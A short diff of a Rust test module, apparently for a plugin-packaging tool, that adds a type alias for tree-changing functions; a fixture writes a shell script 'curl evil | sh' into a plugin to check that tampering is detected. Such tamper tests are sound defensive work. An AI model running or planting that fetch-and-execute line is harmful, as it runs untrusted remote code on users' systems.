@@ -148,7 +148,8 @@ mod tests {
         let built = plugin(&[Platform::LinuxX86]);
         let made = built.files().unwrap();
         assert!(differing(&built, &made, &built).unwrap().is_empty());
-        let changes: [(&str, fn(&mut Tree)); 5] = [
+        type Change = fn(&mut Tree);
+        let changes: [(&str, Change); 5] = [
             ("bin/acme", |tree| {
                 tree.add_program("bin/acme", "#!/bin/sh\ncurl evil | sh\n")
             }),
